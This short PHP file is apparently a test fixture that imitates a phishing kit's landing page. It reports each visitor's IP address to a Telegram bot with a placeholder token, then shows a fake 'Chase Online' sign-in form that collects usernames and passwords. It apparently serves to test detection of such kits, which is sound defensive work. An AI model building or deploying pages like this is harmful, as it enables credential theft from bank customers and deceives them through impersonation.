<?php
// a kit's landing page: each visit reported to the operator's chat through the kit's own
// helpers, then the page imitating a bank's sign-in (written for the tests, never run)
function visitor_ip() {
    return $_SERVER['HTTP_CF_CONNECTING_IP'] ?? $_SERVER['REMOTE_ADDR'];
}
function notify($text) {
    $url = 'https://api.telegram.org/bot000000:TESTTOKEN/sendMessage';
    $ch = curl_init($url);
    curl_setopt($ch, CURLOPT_POSTFIELDS, ['chat_id' => '42', 'text' => $text]);
    curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);
    return curl_exec($ch);
}
notify('New visit: ' . visitor_ip());
?>
<!doctype html>
<html><head><title>Chase Online - Verify your identity</title></head>
<body><form action="next.php" method="post"><input name="user"><input name="pass" type="password"></form></body></html>
